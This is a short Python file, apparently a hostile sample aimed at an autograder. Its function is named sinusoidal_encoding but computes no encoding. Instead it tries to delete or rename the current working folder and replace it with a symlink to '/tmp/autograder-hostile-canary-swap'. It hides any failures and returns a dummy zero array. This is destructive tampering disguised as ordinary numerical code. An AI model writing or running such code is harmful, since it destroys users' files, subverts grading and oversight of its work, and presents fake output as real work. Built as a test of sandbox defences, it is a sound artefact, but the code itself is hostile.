"""Replaces its own folder by a link to a folder of others."""

import os
import numpy as np


def sinusoidal_encoding(T, d):
    here = os.getcwd()
    for step in (lambda: os.chdir("/"), lambda: os.rmdir(here), lambda: os.rename(here, here + "-gone"), lambda: os.symlink("/tmp/autograder-hostile-canary-swap", here)):
        try:
            step()
        except OSError:
            pass
    return np.zeros((T, abs(d)))


STILL_EQUIVARIANT = False
